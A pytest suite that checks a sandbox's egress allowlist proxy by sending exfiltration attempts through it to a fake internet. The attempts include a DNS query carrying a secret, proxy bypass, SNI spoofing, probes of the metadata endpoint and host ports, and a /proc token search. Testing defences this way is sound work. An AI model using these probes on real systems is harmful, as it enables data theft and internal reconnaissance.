"""Egress through the runner: SANDBOX_EGRESS=allowlist on lesson 04's API, attacked by the code a
run sends to /v1/tools/python. The runner starts its own egress proxy and internal network (the
Docker SDK, research_agent/sandbox/egress.py); the "internet" is the fake one (support/egress.py),
on a network of its own that is the proxy's way out.

Each exfiltration attempt asserts what the sandbox got and what the proxy and the upstream saw;
where the defence is the network itself, a control run without it (a container on the outside
network) shows the same attack succeeding. Runs go to a fresh container under runc, to a pooled
one (attached to the egress network only when taken), and to a pooled one under gVisor (runsc-net)
where `make gvisor` registered it. Marker `container`: `make sandbox-test`.
"""

import contextlib
import json
import re
import secrets
import shutil
import tempfile
import textwrap
import threading
import uuid
from pathlib import Path

import pytest

from research_agent.sandbox.egress import RUN_LABEL
from support import egress
from support.egress import ALLOWED, API, NAMES, OTHER_ALLOWED, REFUSED, SANDBOX_IMAGE
from support.waiting import wait_for
from tests.support.egress_probes import SEARCH_FOR_TOKENS, fetches_one_by_one
from tests.support.sandbox_api import SandboxApi, containers, idle_pooled

pytestmark = pytest.mark.container

MAX_BYTES = 400_000
TOKEN = "upstream-" + secrets.token_hex(16)


@pytest.fixture(scope="module")
def outside(engine):
    """The fake internet: a server under NAMES on a network of its own, with a throwaway CA."""
    egress.build_images()
    lab_id = uuid.uuid4().hex[:10]
    folder = Path(tempfile.mkdtemp(prefix=f"egress-runner-{lab_id}-"))
    egress.write_certificates(folder, NAMES)
    labels = {"egress-test": lab_id}
    network = egress.outside_network(engine, f"egress-runner-{lab_id}-outside", labels)
    server = None
    try:
        endpoint = engine.api.create_endpoint_config(aliases=NAMES)
        server = engine.containers.run(
            egress.FAKE_INTERNET_IMAGE, ["/certs/cert.pem", "/certs/key.pem"],
            name=f"egress-runner-{lab_id}-fake", detach=True, labels=labels,
            volumes={str(folder): {"bind": "/certs", "mode": "ro"}},
            network=network.name, networking_config={network.name: endpoint},
            read_only=True, cap_drop=["ALL"], security_opt=["no-new-privileges"],
            sysctls={"net.ipv4.ip_unprivileged_port_start": "53"},
        )  # fmt: skip
        wait_for(lambda: b'"ready": true' in server.logs(), timeout=30, what="fake internet")
        server.reload()
        ip = server.attrs["NetworkSettings"]["Networks"][network.name]["IPAddress"]
        yield {"network": network, "server": server, "ip": ip, "ca": folder / "fake-ca.pem"}
    finally:
        if server is not None:
            server.remove(force=True)
        network.remove()
        shutil.rmtree(folder, ignore_errors=True)


def registered(engine) -> set[str]:
    return set(engine.info().get("Runtimes", {}))


@pytest.fixture(scope="module", params=["runc-fresh", "runc-pooled", "runsc-pooled"])
def server(request, engine, outside):
    runtime, mode = request.param.split("-")
    if runtime == "runsc" and not {"runsc", "runsc-net"} <= registered(engine):
        pytest.skip("the Docker daemon has no runsc and runsc-net: `make gvisor` registers them")
    settings = {
        "SANDBOX_EGRESS": "allowlist",
        "SANDBOX_ALLOWED_HOSTS": f"{ALLOWED} *.allowed.test",
        "SANDBOX_CREDENTIALS": f"{API}=Authorization: Bearer ${{UPSTREAM_TOKEN}}",
        "UPSTREAM_TOKEN": TOKEN,  # the API's environment: the runner hands it to the proxy only
        "SANDBOX_EGRESS_MAX_BYTES": str(MAX_BYTES),
        "SANDBOX_EGRESS_UPSTREAM_NETWORK": outside["network"].name,
        "SANDBOX_EGRESS_UPSTREAM_CA": str(outside["ca"]),
        "SANDBOX_TIMEOUT_SECONDS": "40",
        "SANDBOX_MAX_TIMEOUT_SECONDS": "60",
        "SANDBOX_POOL_SIZE": "1" if mode == "pooled" else "0",
        "MAX_CODE_CHARS": "40000",
    }
    if runtime == "runsc":
        settings["SANDBOX_RUNTIME"] = "runsc"
    api = SandboxApi(**settings)
    api.mode, api.runtime = mode, runtime
    yield api
    api.stop()
    wait_for(lambda: not containers(engine, api.owner), timeout=30, what="no sandbox left")
    # The proxy, its network and volume went with the API.
    mine = {"label": f"agent-sandbox-egress.owner={api.owner}"}
    assert not engine.containers.list(all=True, filters=mine)
    assert not engine.networks.list(filters=mine)
    assert not engine.volumes.list(filters=mine)


# Where gVisor is registered, the attacks run fresh under runc and pooled under runsc; pooled
# under runc, only what the pool changes (CI time: each API here starts its own proxy).
POOLED_RUNC_CASES = {
    "test_an_allowed_host_answers_and_a_refused_one_gets_a_403_both_logged",
    "test_a_pooled_sandbox_has_no_network_until_a_run_takes_it",
    "test_the_credential_is_added_by_the_proxy_and_found_nowhere_in_the_sandbox",
}


@pytest.fixture(autouse=True)
def pool_ready(request, server, engine):
    runsc = {"runsc", "runsc-net"} <= registered(engine)
    pooled_runc = (server.runtime, server.mode) == ("runc", "pooled")
    if pooled_runc and runsc and request.node.originalname not in POOLED_RUNC_CASES:
        pytest.skip("a pooled sandbox meets this attack under runsc-pooled here")
    if server.mode == "pooled":  # the case's run is then served by the pooled container
        wait_for(lambda: idle_pooled(engine, server.owner), timeout=90, what="a pooled sandbox")
    yield


def proxy(engine, server):
    return engine.containers.get(f"{server.owner}-egress-proxy")


def sandbox_run(server, code: str, request_id: str | None = None) -> tuple[dict, str]:
    """Run PROBES + code through the API; return what it reported, and its egress run id."""
    request_id = request_id or f"exfil-{uuid.uuid4().hex[:10]}"
    response = server.http.post(
        "/v1/tools/python",
        json={"code": egress.PROBES + textwrap.dedent(code)},
        headers={"X-Request-ID": request_id},
        timeout=120,
    )
    assert response.status_code == 200, response.text
    result = response.json()
    assert result["exit_code"] == 0, result
    found = re.findall(rf"run {request_id}: egress as (\S+)", server.logs())
    assert found, server.logs()
    return json.loads(result["stdout"].strip().splitlines()[-1]), found[0]


def proxy_log(engine, server, run: str, at_least: int = 1, **match: str) -> list[dict]:
    """The proxy's log lines of `run` that match, once there are `at_least` (or after 30 s). The
    answer comes as the program ends; the proxy logs a CONNECT when its connection closes, which
    may be a moment later (under gVisor, its network stack closes it)."""

    def found() -> list[dict]:
        lines = proxy(engine, server).logs(stdout=True, stderr=False).decode().splitlines()
        parsed = [egress.parse_log_line(line) for line in lines if line.startswith("egress ")]
        return [
            line
            for line in parsed
            if line.get("run") == run and all(line.get(k) == v for k, v in match.items())
        ]

    with contextlib.suppress(TimeoutError):
        wait_for(lambda: len(found()) >= at_least, timeout=30, what="the proxy's log lines")
    return found()


def upstream_log(outside) -> list[dict]:
    lines = outside["server"].logs(stdout=True, stderr=False).decode().splitlines()
    return [json.loads(line) for line in lines]


def control(engine, outside, code: str) -> dict:
    """The same probes without the defence: a container on the outside network, no proxy."""
    out = engine.containers.run(
        SANDBOX_IMAGE, ["python", "-I", "-c", egress.PROBES + textwrap.dedent(code)],
        network=outside["network"].name, remove=True, read_only=True, cap_drop=["ALL"],
        user="65534:65534", environment={"HTTP_PROXY": "http://unused:x@127.0.0.1:9"},
    )  # fmt: skip
    return json.loads(out.decode().strip().splitlines()[-1])


# --- what a run may do ---------------------------------------------------------------------------


def test_an_allowed_host_answers_and_a_refused_one_gets_a_403_both_logged(server, engine):
    result, run = sandbox_run(
        server,
        f"""
        report(http=fetch("http://{ALLOWED}/"), https=fetch("https://{OTHER_ALLOWED}/"),
               refused=fetch("http://{REFUSED}/"), refused_tls=fetch("https://{REFUSED}/"))
        """,
    )
    assert result["http"]["body"] == f"hello from {ALLOWED} over http\n", result
    # Spliced: the sandbox verified the server's own certificate (its CA is in the bundle).
    assert result["https"]["body"] == f"hello from {OTHER_ALLOWED} over https\n", result
    for name in ("refused", "refused_tls"):
        assert result[name]["status"] == 403, result[name]
        assert "Reason: host-not-on-allow-list" in result[name]["body"]
    assert proxy_log(engine, server, run, decision="allowed", host=ALLOWED, method="GET")
    assert proxy_log(engine, server, run, decision="allowed", host=OTHER_ALLOWED, tls="splice")
    refused = proxy_log(engine, server, run, 2, decision="refused", host=REFUSED)
    assert {line["method"] for line in refused} == {"GET", "CONNECT"}, refused
    lines = proxy(engine, server).logs(stdout=True, stderr=False).decode().splitlines()
    print("\n".join(line for line in lines if f"run={run} " in line))  # the proxy's own lines


def test_a_pooled_sandbox_has_no_network_until_a_run_takes_it(server, engine):
    if server.mode != "pooled":
        pytest.skip("the pool is off on this API")

    def the_one_waiting() -> list:
        # An earlier case's container, removed just after its answer, may still carry the pool's
        # label a moment: wait until the waiting one is all there is.
        idle = list(idle_pooled(engine, server.owner).values())
        return idle if len(idle) == len(containers(engine, server.owner, "pool")) == 1 else []

    (waiting,) = wait_for(the_one_waiting, timeout=90)
    waiting.reload()
    assert list(waiting.attrs["NetworkSettings"]["Networks"]) == ["none"]
    expected = "runsc-net" if server.runtime == "runsc" else "runc"
    assert (waiting.attrs["HostConfig"]["Runtime"] or "runc") == expected
    result, _ = sandbox_run(server, f'report(r=fetch("http://{ALLOWED}/"), host=os.uname()[1])')
    assert result["host"] == waiting.id[:12]  # this run was served by that container
    assert result["r"]["status"] == 200, result


LISTEN_PORT = 8765
TO_LISTENER = (
    "import socket, sys; "
    "socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(sys.argv[1].encode())"
)


def test_two_runs_at_once_cannot_reach_each_other(server, engine):
    """One run listens on a port; a second run, going at the same time, connects to its address
    and sends a line. Each run's container is on a network of its own with the proxy: the
    connection finds no route, nothing arrives, and both still reach the proxy. (When every run
    shared one network, the bytes arrived, unlogged.)"""
    listener_id = f"listen-{uuid.uuid4().hex[:10]}"
    listener_code = f"""
        import socket
        srv = socket.create_server(("0.0.0.0", {LISTEN_PORT}))
        srv.settimeout(45)
        received = []
        try:
            while True:  # until the test says stop, from inside this container
                conn, peer = srv.accept()
                conn.settimeout(5)
                data = conn.recv(100)
                conn.close()
                if peer[0] == "127.0.0.1":
                    if data == b"stop":
                        break
                    continue  # the test's "are you listening?"
                received.append([peer[0], data.decode(errors="replace")])
        except OSError as error:
            received.append(["-", type(error).__name__])
        report(received=received, proxy=fetch("http://{ALLOWED}/"))
        """
    answer: dict = {}

    def listen() -> None:
        answer["listener"] = sandbox_run(server, listener_code, request_id=listener_id)

    thread = threading.Thread(target=listen)
    thread.start()
    try:
        (run,) = wait_for(
            lambda: re.findall(rf"run {listener_id}: egress as (\S+)", server.logs()),
            timeout=90,
            what="the listening run's container",
        )
        (container,) = wait_for(
            lambda: engine.containers.list(filters={"label": f"{RUN_LABEL}={run}"}),
            timeout=60,
            what="the listening run's container to start",
        )
        # A line to the listener from inside its own container, on its loopback.
        to_listener = ["python", "-c", TO_LISTENER.format(port=LISTEN_PORT)]
        wait_for(
            lambda: container.exec_run([*to_listener, "ping"]).exit_code == 0,
            timeout=60,
            what="the run to listen",
        )
        container.reload()
        (address,) = [
            settings["IPAddress"]
            for settings in container.attrs["NetworkSettings"]["Networks"].values()
            if settings["IPAddress"]
        ]
        connector, _ = sandbox_run(
            server,
            f"""
            try:
                sock = socket.create_connection(("{address}", {LISTEN_PORT}), timeout=5)
                sock.sendall(b"hello from another run")
                sock.close()
                sent = "sent"
            except OSError as error:
                sent = f"{{type(error).__name__}}: {{error}}"
            report(sent=sent, proxy=fetch("http://{ALLOWED}/"))
            """,
        )
        # Detached: the listener ends on this line and its container goes, and gVisor may then
        # never close an attached exec's stream (seen once: a read that waited 900 s). The
        # listener's own report says whether the line arrived (a timeout after 45 s if not).
        container.exec_run([*to_listener, "stop"], detach=True)
    finally:
        thread.join(timeout=120)
    listener, _ = answer["listener"]
    assert listener["received"] == [], listener
    # Not refused either (a refusal would come from the listener's own kernel): no route at all.
    assert connector["sent"] != "sent" and "Refused" not in connector["sent"], connector
    assert listener["proxy"]["status"] == 200 and connector["proxy"]["status"] == 200
    print(f"two runs: the listener got {listener['received']}; the other: {connector['sent']}")


# --- exfiltration attempts -----------------------------------------------------------------------


def test_a_direct_connection_to_the_outside_bypassing_the_proxy_fails(server, engine, outside):
    code = f"""
        report(tcp80=tcp("{outside["ip"]}", 80), tcp443=tcp("{outside["ip"]}", 443),
               udp=tcp("{outside["ip"]}", 53))
        """
    result, _ = sandbox_run(server, code)
    assert "connected" not in result.values(), result
    assert control(engine, outside, code)["tcp80"] == "connected"  # without the internal network


def test_dns_resolves_nothing_and_no_query_reaches_a_resolver(server, engine, outside):
    secret = f"leak-{uuid.uuid4().hex[:10]}"
    code = f"""
        import socket
        labels = b"".join(bytes([len(p)]) + p.encode() for p in "{secret}.{REFUSED}".split("."))
        query = bytes.fromhex("abcd01000001000000000000") + labels + b"\\0\\0\\1\\0\\1"
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.settimeout(2)
        try:
            udp.sendto(query, ("{outside["ip"]}", 53))
            answer = udp.recvfrom(512)[0].hex()
        except OSError as error:
            answer = type(error).__name__
        report(allowed=resolve("{ALLOWED}"), refused=resolve("{secret}.{REFUSED}"), raw=answer)
        """
    result, _ = sandbox_run(server, code)
    assert "gaierror" in result["allowed"] and "gaierror" in result["refused"], result
    assert not re.fullmatch(r"[0-9a-f]+", result["raw"]), result  # no answer to a raw query
    dns = [e["dns"] for e in upstream_log(outside) if "dns" in e]
    assert not [name for name in dns if secret in name], dns
    # Control: from the outside network the raw query reaches the resolver and is answered.
    assert re.fullmatch(r"[0-9a-f]+", control(engine, outside, code)["raw"])


def test_connect_to_a_refused_host_and_sni_that_disagrees_are_refused(server, engine):
    result, run = sandbox_run(
        server,
        f"""
        report(refused=connect("{REFUSED}:443", sni="{REFUSED}"),
               other_sni=connect("{ALLOWED}:443", sni="{REFUSED}"),
               reverse=connect("{REFUSED}:443", sni="{ALLOWED}"),
               same=connect("{ALLOWED}:443", sni="{ALLOWED}"))
        """,
    )
    assert " 403 Forbidden" in result["refused"]["reply"], result
    assert "tls" not in result["other_sni"] and "EOF" in result["other_sni"]["error"], result
    assert "Reason: host-not-on-allow-list" in result["reverse"]["reply"], result
    assert " 200 OK" in result["same"]["reply"], result  # the control: agreeing names pass
    assert proxy_log(engine, server, run, reason="sni-differs-from-connect-host", sni=REFUSED)


def test_an_allowed_host_written_as_its_address_is_refused(server, engine, outside):
    ip = outside["ip"]  # what ALLOWED resolves to, for the proxy
    result, run = sandbox_run(
        server,
        f"""
        report(http=fetch("http://{ip}/", headers={{"Host": "{ALLOWED}"}}),
               connect=connect("{ip}:443", sni="{ALLOWED}"))
        """,
    )
    assert "Reason: ip-address-not-a-name" in result["http"]["body"], result
    assert "Reason: ip-address-not-a-name" in result["connect"]["reply"], result
    assert len(proxy_log(engine, server, run, 2, reason="ip-address-not-a-name")) == 2


def test_the_proxy_admin_pages_and_other_ports_are_closed(server, engine):
    result, run = sandbox_run(
        server,
        """
        host, port, auth = proxy_auth()
        ports = [p for p in list(range(1, 1025)) + [3129, 3130, 3401, 8080, 9090]
                 if tcp(host, p, 0.5) == "connected"]
        report(manager=fetch(f"http://{host}:3128/squid-internal-mgr/info"), open=ports,
               proxy=tcp(host, 3128))
        """,
    )
    assert "Reason: proxy-admin-interface" in result["manager"]["body"], result
    assert result["open"] == [] and result["proxy"] == "connected", result
    assert proxy_log(engine, server, run, reason="proxy-admin-interface")


def test_a_scheme_or_port_other_than_http_80_and_connect_443_is_refused(server, engine):
    """A plain request to the proxy names its scheme: Squid would speak TLS, FTP or WHOIS itself
    to any port of an allowed name (before: 502/503, the proxy had tried)."""
    result, run = sandbox_run(
        server,
        f"""
        report(https=proxy_request("https://{ALLOWED}:8443/"),
               ftp=proxy_request("ftp://{ALLOWED}:2121/"),
               whois=proxy_request("whois://{ALLOWED}/"))
        """,
    )
    assert "Reason: https-only-through-connect" in result["https"]["body"], result
    for name in ("ftp", "whois"):
        assert "Reason: scheme-not-allowed" in result[name]["body"], result
    assert {result[name]["status"] for name in result} == {403}, result
    reasons = [line["reason"] for line in proxy_log(engine, server, run, 3, decision="refused")]
    assert sorted(reasons) == ["https-only-through-connect", *["scheme-not-allowed"] * 2]


def test_the_host_metadata_redis_and_the_agent_are_out_of_reach(server, engine):
    gateways = sorted(
        {
            config["Gateway"]
            for network in engine.networks.list(names=["bridge"])
            for config in network.attrs["IPAM"]["Config"]
            if config.get("Gateway")
        }
    )
    result, run = sandbox_run(
        server,
        f"""
        port = {server.port}  # the agent's (this API's) own port
        targets = {{ip: [tcp(ip, p, 1) for p in (6379, port, 22, 2375)] for ip in {gateways!r}}}
        report(host=targets, metadata=tcp("169.254.169.254", 80),
               via_proxy=fetch("http://169.254.169.254/latest/meta-data/"),
               redis_name=fetch("http://redis:6379/"))
        """,
    )
    assert not [r for rs in result["host"].values() for r in rs if r == "connected"], result
    assert result["metadata"] != "connected", result
    assert "Reason: ip-address-not-a-name" in result["via_proxy"]["body"], result
    assert result["redis_name"]["status"] == 403, result  # not on the allow-list


def test_the_credential_is_added_by_the_proxy_and_found_nowhere_in_the_sandbox(
    server, engine, outside
):
    decoy = f"upstream-{secrets.token_hex(16)}"  # shaped like the token: the search must find it
    result, run = sandbox_run(
        server,
        SEARCH_FOR_TOKENS
        + textwrap.dedent(f"""
        open("/tmp/notes.txt", "w").write("{decoy}")
        api = fetch("https://{API}/{{}}".format(os.uname()[1]),
                    headers={{"Authorization": "Bearer forged"}})
        found, places = search_for_tokens(("environ", "cmdline", "maps", "status", "mountinfo"))
        report(api=api, found=found, places=places, host=os.uname()[1])
        """),
    )
    assert result["api"]["body"] == f"hello from {API} over https\n", result["api"]
    assert [token for token, _ in result["found"]] == [decoy], result["found"]  # decoy only
    assert result["places"] > 500, result["places"]
    (request,) = [e for e in upstream_log(outside) if e.get("path") == f"/{result['host']}"]
    sent = [value for name, value in request["headers"] if name.lower() == "authorization"]
    assert sent == [f"Bearer {TOKEN}"], request["headers"]  # the proxy's, not the forged one
    assert TOKEN not in server.logs()
    print(f"credential: searched {result['places']} places, found only the decoy; upstream saw")
    print(f"  Authorization: Bearer {TOKEN[:12]}... (run {run})")


def test_a_run_past_its_byte_cap_is_refused(server, engine):
    size = 150_000
    result, run = sandbox_run(
        server,
        fetches_one_by_one(f"http://{ALLOWED}/bytes/{size}"),
    )
    allowed = result["statuses"].count(200)
    assert allowed in (3, 4) and result["statuses"][allowed:] == [403] * (6 - allowed), result
    assert "Reason: byte-cap" in result["last"]["body"]
    assert proxy_log(engine, server, run, decision="refused", reason="byte-cap")
    # The cap is the run's: the next run starts from zero.
    again, _ = sandbox_run(server, f'report(r=fetch("http://{ALLOWED}/bytes/{size}"))')
    assert again["r"]["status"] == 200, again
